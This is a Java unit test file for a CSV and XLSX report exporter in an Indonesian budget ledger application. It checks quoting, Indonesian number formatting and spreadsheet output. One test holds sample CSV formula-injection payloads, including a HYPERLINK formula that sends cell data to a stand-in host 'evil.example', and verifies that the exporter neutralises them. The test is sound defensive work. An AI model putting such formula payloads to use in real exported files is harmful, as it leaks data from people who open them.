package id.sakip.ledger.shared.export;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.util.List;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import id.sakip.ledger.shared.InvalidValue;
import id.sakip.ledger.shared.export.ReportTable.Kind;

class TableExporterTest {

    private static ReportTable table(String title) {
        return ReportTable.titled(title).subtitle("Organisasi uji")
                .column("Uraian", Kind.TEXT).column("Anggaran (Rp)", Kind.RUPIAH).column("Serapan (%)", Kind.PERCENT)
                .row("Belanja \"ATK\", kantor", 1_500_000L, new BigDecimal("96.20"))
                .row("Baris tanpa persentase", 0L, null)
                .totalRow("Jumlah", 1_500_000L, new BigDecimal("96.20"))
                .build();
    }

    @Test
    void csvQuotesTextWithCommasAndQuotesAndKeepsNumbersPlain() {
        String csv = new String(TableExporter.csv(List.of(table("Tabel"))), StandardCharsets.UTF_8);
        assertThat(csv.split("\r\n")).containsExactly(
                "Uraian,Anggaran (Rp),Serapan (%)",
                "\"Belanja \"\"ATK\"\", kantor\",1500000,96.20",
                "Baris tanpa persentase,0,",
                "Jumlah,1500000,96.20");
    }

    @Test
    void csvNeutralisesTextThatASpreadsheetWouldRunAsAFormulaAndKeepsNegativeNumbersNumbers() {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Klik\")";
        ReportTable t = ReportTable.titled("=Judul").column("Uraian", Kind.TEXT).column("Selisih (Rp)", Kind.RUPIAH)
                .column("Kode", Kind.TEXT)
                .row(hyperlink, -2_000_000L, "-5")
                .row("+62 SUM(A1:A9)", -1L, "@cmd")
                .row("\tTab di depan", 0L, "\rCR di depan")
                .row("Belanja biasa - ATK", 5L, "5.1.02")
                .build();
        List<List<String>> rows = readCsv(new String(TableExporter.csv(List.of(t)), StandardCharsets.UTF_8));
        assertThat(rows).containsExactly(
                List.of("Uraian", "Selisih (Rp)", "Kode"),
                List.of("'" + hyperlink, "-2000000", "'-5"),
                List.of("'+62 SUM(A1:A9)", "-1", "'@cmd"),
                List.of("'\tTab di depan", "0", "'\rCR di depan"),
                List.of("Belanja biasa - ATK", "5", "5.1.02"));
        assertThat(readCsv(new String(TableExporter.csv(List.of(t, t)), StandardCharsets.UTF_8)).get(0))
                .as("a table title is text too").containsExactly("'=Judul");
    }

    /** Reads RFC 4180 text back into rows of cells, as a spreadsheet would before looking at the values. */
    static List<List<String>> readCsv(String csv) {
        List<List<String>> rows = new java.util.ArrayList<>();
        List<String> row = new java.util.ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new java.util.ArrayList<>();
                i++;
            } else {
                cell.append(c);
            }
        }
        return rows;
    }

    @Test
    void csvOfSeveralTablesNamesEach() {
        String csv = new String(TableExporter.csv(List.of(table("Satu"), table("Dua"))), StandardCharsets.UTF_8);
        assertThat(csv).startsWith("Satu\r\nUraian,").contains("\r\n\r\nDua\r\nUraian,");
    }

    @Test
    void spreadsheetKeepsEmptyCellsBlankTotalsBoldAndSheetNamesDistinct() throws IOException {
        byte[] bytes = TableExporter.xlsx(List.of(table("Tabel yang judulnya sangat panjang sekali"),
                table("Tabel yang judulnya sangat panjang sekali")));
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(bytes))) {
            assertThat(book.getNumberOfSheets()).isEqualTo(2);
            assertThat(book.getSheetName(0)).isNotEqualTo(book.getSheetName(1));
            var sheet = book.getSheetAt(0);
            assertThat(sheet.getRow(4).getCell(1).getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(sheet.getRow(5).getCell(2).getCellType()).isEqualTo(CellType.BLANK);
            assertThat(book.getFontAt(sheet.getRow(6).getCell(1).getCellStyle().getFontIndex()).getBold())
                    .as("the total row is bold").isTrue();
            assertThat(book.getFontAt(sheet.getRow(4).getCell(1).getCellStyle().getFontIndex()).getBold()).isFalse();
        }
    }

    @Test
    void aRowWithTheWrongNumberOfCellsIsRefused() {
        assertThatThrownBy(() -> ReportTable.titled("T").column("A", Kind.TEXT).row("a", "b").build())
                .isInstanceOf(IllegalArgumentException.class).hasMessageContaining("2 cells for 1 columns");
    }

    @Test
    void formatsAreReadCaseInsensitivelyAndOthersRefused() {
        assertThat(ExportFormat.parse(" XLSX ")).isEqualTo(ExportFormat.XLSX);
        assertThatThrownBy(() -> ExportFormat.parse("docx")).isInstanceOf(InvalidValue.class)
                .hasMessageContaining("xlsx, csv, pdf");
    }

    @Test
    void shownFiguresUseIndonesianNotation() {
        assertThat(TableExporter.shown(Kind.RUPIAH, 1_923_000_000L)).isEqualTo("1.923.000.000");
        assertThat(TableExporter.shown(Kind.PERCENT, new BigDecimal("96.2"))).isEqualTo("96,20");
        assertThat(TableExporter.shown(Kind.NUMBER, new BigDecimal("96.67"))).isEqualTo("96,67");
        assertThat(TableExporter.shown(Kind.NUMBER, 2_000_000L)).isEqualTo("2.000.000");
        assertThat(TableExporter.shown(Kind.TEXT, null)).isEmpty();
    }
}
